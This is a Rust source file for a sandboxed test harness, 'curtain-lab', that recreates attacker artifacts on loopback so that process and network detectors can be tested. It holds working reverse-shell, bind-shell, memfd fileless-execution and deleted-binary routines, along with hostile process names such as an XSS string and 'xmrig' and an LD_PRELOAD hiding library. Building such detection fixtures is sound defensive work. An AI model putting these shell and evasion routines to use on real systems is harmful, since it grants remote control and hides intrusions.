//! `curtain-lab`: starts the processes an attacker leaves behind, so that the collector and the
//! detectors can be tested (and shown) against the real thing: a binary deleted while running, a
//! memfd-executed binary, a shell on a TCP socket, listeners and connections, hostile names.
//!
//! `curtain-lab init DIR` is meant to run as PID 1 of a sandbox made with
//! `unshare --pid --net --mount --uts --fork --mount-proc`: it brings up the loopback of the
//! sandbox's own network namespace, starts every scenario, writes DIR/ready (JSON: role -> pid as
//! the sandbox numbers it) and then only reaps children. Only loopback addresses are used.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};
use std::time::Duration;

fn usage() -> ! {
    eprintln!(
        "usage: curtain-lab init DIR | sleep [TOKEN] | listen ADDR | connect ADDR | revshell ADDR | \
         memfd-exec PROGRAM [ARGS...] | rename HEX | unix-listen PATH | udp ADDR | churn SECONDS | \
         exec-deleted PROGRAM COPY [ARGS...] | bindshell ADDR | hostile NAME | trace | jit"
    );
    std::process::exit(2)
}

fn park() -> ! {
    loop {
        std::thread::sleep(Duration::from_secs(3600));
    }
}

fn ready() {
    println!("ready");
    let _ = std::io::stdout().flush();
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_else(|| usage());
    match args.get(1).map(String::as_str) {
        Some("init") => init(&arg(2)),
        Some("sleep") => {
            ready();
            park()
        }
        Some("listen") => listen(&arg(2)),
        Some("connect") => {
            let s = connect_retry(&arg(2));
            ready();
            let _keep = s;
            park()
        }
        Some("revshell") => revshell(&arg(2)),
        Some("memfd-exec") => memfd_exec(&arg(2), &args[3..]),
        Some("exec-deleted") => exec_deleted(&arg(2), &arg(3), &args[4..]),
        Some("rename") => {
            let name = curtain_model::from_hex(&arg(2)).unwrap_or_else(|| usage());
            let c = std::ffi::CString::new(name).unwrap_or_else(|_| usage());
            rustix::thread::set_name(&c).expect("prctl(PR_SET_NAME)");
            ready();
            park()
        }
        Some("unix-listen") => {
            let l = std::os::unix::net::UnixListener::bind(arg(2)).expect("bind unix");
            ready();
            for c in l.incoming() {
                std::mem::forget(c);
            }
            park()
        }
        Some("udp") => {
            let _s = UdpSocket::bind(arg(2)).expect("bind udp");
            ready();
            park()
        }
        Some("churn") => churn(arg(2).parse().unwrap_or_else(|_| usage())),
        Some("bindshell") => bindshell(&arg(2)),
        Some("hostile") => {
            // Becomes a process whose argv[0] and comm are NAME.
            let name = arg(2);
            let me = std::env::current_exe().expect("current_exe");
            let e = Command::new(me).arg0(&name).args(["rename", &curtain_model::to_hex(name.as_bytes())]).exec();
            panic!("exec: {e}");
        }
        Some("trace") => trace(),
        Some("jit") => {
            // An anonymous page that is writable and executable, as injected code needs.
            let prot = rustix::mm::ProtFlags::READ | rustix::mm::ProtFlags::WRITE | rustix::mm::ProtFlags::EXEC;
            // SAFETY: a fresh anonymous private mapping, never dereferenced.
            let _page =
                unsafe { rustix::mm::mmap_anonymous(std::ptr::null_mut(), 4096, prot, rustix::mm::MapFlags::PRIVATE) }
                    .expect("mmap");
            ready();
            park()
        }
        _ => usage(),
    }
}

/// Accepts connections and holds them open, never writing.
fn listen(addr: &str) -> ! {
    let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
    ready();
    let mut held = Vec::new();
    for c in l.incoming().flatten() {
        held.push(c);
    }
    park()
}

fn connect_retry(addr: &str) -> TcpStream {
    for _ in 0..100 {
        if let Ok(s) = TcpStream::connect(addr) {
            return s;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("connect {addr}: refused");
}

/// The classic reverse shell: a socket as stdin, stdout and stderr of /bin/sh.
fn revshell(addr: &str) -> ! {
    let s = connect_retry(addr);
    rustix::stdio::dup2_stdin(&s).expect("dup2");
    rustix::stdio::dup2_stdout(&s).expect("dup2");
    rustix::stdio::dup2_stderr(&s).expect("dup2");
    drop(s);
    let e = Command::new("/bin/sh").arg0("sh").exec();
    panic!("exec /bin/sh: {e}");
}

/// Fileless execution: the program's bytes copied into an anonymous memory file and run from it.
fn memfd_exec(program: &str, args: &[String]) -> ! {
    let bytes = std::fs::read(program).expect("read program");
    let fd = rustix::fs::memfd_create("lab-payload", rustix::fs::MemfdFlags::empty()).expect("memfd_create");
    let mut f = std::fs::File::from(fd);
    f.write_all(&bytes).expect("write memfd");
    let raw = std::os::fd::AsRawFd::as_raw_fd(&f);
    std::mem::forget(f);
    let e = Command::new(format!("/proc/self/fd/{raw}")).arg0("lab-payload").args(args).exec();
    panic!("exec memfd: {e}");
}

/// A binary copied to COPY, started, then deleted from disk while it runs.
fn exec_deleted(program: &str, copy: &str, args: &[String]) -> ! {
    std::fs::copy(program, copy).expect("copy program");
    let mut child = Command::new(copy).args(args).stdin(Stdio::null()).spawn().expect("spawn copy");
    std::thread::sleep(Duration::from_millis(100));
    std::fs::remove_file(copy).expect("unlink copy");
    ready();
    let _ = child.wait();
    std::process::exit(0)
}

/// A shell holding a listening socket: `nc -l -e /bin/sh` in spirit.
fn bindshell(addr: &str) -> ! {
    let l = TcpListener::bind(addr).unwrap_or_else(|e| panic!("bind {addr}: {e}"));
    // Keep the listener across exec.
    rustix::io::fcntl_setfd(&l, rustix::io::FdFlags::empty()).expect("clear FD_CLOEXEC");
    std::mem::forget(l);
    ready();
    let e = Command::new("/bin/sh").arg0("sh").args(["-c", "while :; do sleep 3600; done"]).exec();
    panic!("exec /bin/sh: {e}");
}

/// A child traced by its parent (PTRACE_SEIZE): TracerPid is set in the child's status.
// The tracee lives as long as its tracer, which never returns: nothing to wait for.
#[allow(clippy::zombie_processes)]
fn trace() -> ! {
    let me = std::env::current_exe().expect("current_exe");
    let child = Command::new(me).arg("sleep").stdout(Stdio::null()).spawn().expect("spawn tracee");
    // SAFETY: plain ptrace on our own child; no memory is passed.
    let rc = unsafe { libc::ptrace(libc::PTRACE_SEIZE, child.id() as libc::pid_t, 0, 0) };
    assert_eq!(rc, 0, "PTRACE_SEIZE: {}", std::io::Error::last_os_error());
    ready();
    park()
}

/// Short-lived children, one after the other, for SECONDS: pids that vanish mid-collection.
fn churn(seconds: u64) -> ! {
    let end = std::time::Instant::now() + Duration::from_secs(seconds);
    ready();
    while std::time::Instant::now() < end {
        let mut kids: Vec<_> = (0..8).filter_map(|_| Command::new("/bin/true").spawn().ok()).collect();
        for k in &mut kids {
            let _ = k.wait();
        }
    }
    std::process::exit(0)
}

/// Starts `curtain-lab ARGS` and waits for its "ready" line; returns its pid.
fn start(role: &str, args: &[&str], roles: &mut Vec<(String, u32)>) {
    let me = std::env::current_exe().expect("current_exe");
    let mut child = Command::new(me).args(args).stdout(Stdio::piped()).stdin(Stdio::null()).spawn().expect("spawn");
    let mut line = String::new();
    let mut out = BufReader::new(child.stdout.take().expect("stdout"));
    out.read_line(&mut line).expect("read ready");
    assert_eq!(line.trim(), "ready", "{role} did not start");
    // Keep draining so that a later write never blocks the child.
    std::thread::spawn(move || {
        let _ = std::io::copy(&mut out.into_inner().take(u64::MAX), &mut std::io::sink());
    });
    roles.push((role.to_string(), child.id()));
    std::mem::forget(child);
}

fn init(dir: &str) -> ! {
    let status = Command::new("ip").args(["link", "set", "lo", "up"]).status();
    if !status.map(|s| s.success()).unwrap_or(false) {
        eprintln!("curtain-lab: could not bring lo up");
    }
    let mut roles = Vec::new();
    start("listener", &["listen", "127.0.0.1:4444"], &mut roles);
    start("listener6", &["listen", "[::1]:5555"], &mut roles);
    start("dualstack", &["listen", "[::]:6666"], &mut roles);
    start("client6", &["connect", "[::1]:5555"], &mut roles);
    start("client4to6", &["connect", "127.0.0.1:6666"], &mut roles);
    // The reverse shell never prints "ready": it becomes /bin/sh at once.
    let me = std::env::current_exe().expect("current_exe");
    let shell = Command::new(&me).args(["revshell", "127.0.0.1:4444"]).spawn().expect("spawn revshell");
    roles.push(("revshell".into(), shell.id()));
    std::mem::forget(shell);
    let copy = format!("{dir}/lab-deleted");
    start("deleted", &["exec-deleted", "/bin/sleep", &copy, "3600"], &mut roles);
    // Nor does the memfd payload: it is /bin/sleep from its first instruction.
    let memfd = Command::new(&me).args(["memfd-exec", "/bin/sleep", "3600"]).spawn().expect("spawn memfd");
    roles.push(("memfd".into(), memfd.id()));
    std::mem::forget(memfd);
    start("oddcomm", &["rename", &curtain_model::to_hex(b"x) Z 1 1 1 (")], &mut roles);
    start("newlinecomm", &["rename", &curtain_model::to_hex(b"a\nb\xff")], &mut roles);
    let sock = format!("{dir}/lab.sock");
    start("unix", &["unix-listen", &sock], &mut roles);
    start("udp", &["udp", "127.0.0.1:5353"], &mut roles);
    start("bindshell", &["bindshell", "127.0.0.1:31337"], &mut roles);
    start("hostile", &["hostile", "<img src=x onerror=alert(1)>"], &mut roles);
    start("tracer", &["trace"], &mut roles);
    start("jit", &["jit"], &mut roles);
    start("miner", &["rename", &curtain_model::to_hex(b"xmrig")], &mut roles);
    // The instance metadata address exists only on this sandbox's own loopback.
    let imds = Command::new("ip").args(["addr", "add", "169.254.169.254/32", "dev", "lo"]).status();
    if imds.map(|s| s.success()).unwrap_or(false) {
        start("imds", &["listen", "169.254.169.254:80"], &mut roles);
        start("imds-client", &["connect", "169.254.169.254:80"], &mut roles);
    }
    // LD_PRELOAD of a library that does not exist: the loader complains and goes on.
    let me2 = std::env::current_exe().expect("current_exe");
    let mut pre = Command::new(&me2)
        .arg("sleep")
        .env("LD_PRELOAD", "/dev/shm/.lab/libhide.so")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .stdin(Stdio::null())
        .spawn()
        .expect("spawn preload");
    let mut line = String::new();
    BufReader::new(pre.stdout.as_mut().expect("stdout")).read_line(&mut line).expect("ready");
    roles.push(("preload".into(), pre.id()));
    std::mem::forget(pre);
    // Give the shell a moment to connect and exec.
    std::thread::sleep(Duration::from_millis(200));
    let body: Vec<String> = roles.iter().map(|(r, p)| format!("\"{r}\":{p}")).collect();
    let tmp = format!("{dir}/ready.tmp");
    std::fs::write(&tmp, format!("{{{}}}\n", body.join(","))).expect("write ready");
    std::fs::rename(&tmp, format!("{dir}/ready")).expect("rename ready");
    // PID 1 of the sandbox: reap whatever exits, forever.
    loop {
        match rustix::process::wait(rustix::process::WaitOptions::empty()) {
            Ok(_) => {}
            Err(_) => std::thread::sleep(Duration::from_millis(200)),
        }
    }
}
